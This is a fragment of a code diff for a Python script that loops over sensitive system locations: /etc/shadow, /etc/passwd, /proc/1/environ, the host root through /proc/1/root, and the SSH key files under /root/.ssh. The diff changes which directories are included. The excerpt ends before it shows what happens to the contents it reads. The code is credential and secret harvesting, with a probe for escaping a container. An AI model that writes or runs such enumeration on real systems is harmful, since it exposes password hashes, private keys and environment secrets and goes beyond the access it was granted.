@@ -2,7 +2,7 @@
 import glob
 import os
 
-paths = ["/etc/shadow", "/etc/passwd", "/etc/hostname", "/root/.bashrc", "/home", "/data", "/work"]
+paths = ["/etc/shadow", "/etc/passwd", "/etc/hostname", "/root/.bashrc", "/home", "/opt"]
 paths += ["/proc/1/environ", "/proc/1/root/etc/shadow", "/sys/class", "/var", "/mnt", "/srv"]
 for path in paths + glob.glob("/root/.ssh/*") + glob.glob("/home/*"):
     try:
